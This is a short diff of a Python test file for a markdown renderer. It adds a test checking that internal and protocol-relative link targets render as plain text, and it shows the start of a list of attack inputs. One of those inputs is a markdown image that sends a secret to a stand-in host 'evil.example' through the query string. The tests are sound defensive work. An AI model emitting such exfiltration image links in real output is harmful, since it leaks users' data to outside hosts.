@@ -42,6 +42,13 @@ def test_it_shows_where_a_link_goes() -> None:
 
 
 @pytest.mark.parametrize(
+    "address", ["/deconnexion", "//evil.example/x", "?suite=1", "#annonce", "x", "/\\evil.example"]
+)
+def test_it_links_to_nothing_inside_the_house(address: str) -> None:
+    assert markdown.render(f"[ici]({address})").strip() == "<p>ici</p>"
+
+
+@pytest.mark.parametrize(
     "attack",
     [
         "![x](https://evil.example/?d=secret)",
